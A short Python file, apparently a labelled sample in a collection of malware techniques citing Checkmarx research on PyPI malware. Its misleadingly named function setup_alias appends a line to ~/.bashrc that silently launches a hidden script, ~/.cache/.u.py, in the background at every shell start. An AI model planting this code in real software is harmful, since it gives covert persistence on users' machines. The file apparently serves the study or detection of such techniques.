# technique: line appended to ~/.bashrc
# class: persistence
# source: Checkmarx, shell start-up file persistence in PyPI malware
# declares: fs-write
from pathlib import Path


def setup_alias():
    with open(Path.home() / ".bashrc", "a") as fh:
        fh.write("\n(nohup python3 ~/.cache/.u.py >/dev/null 2>&1 &)\n")
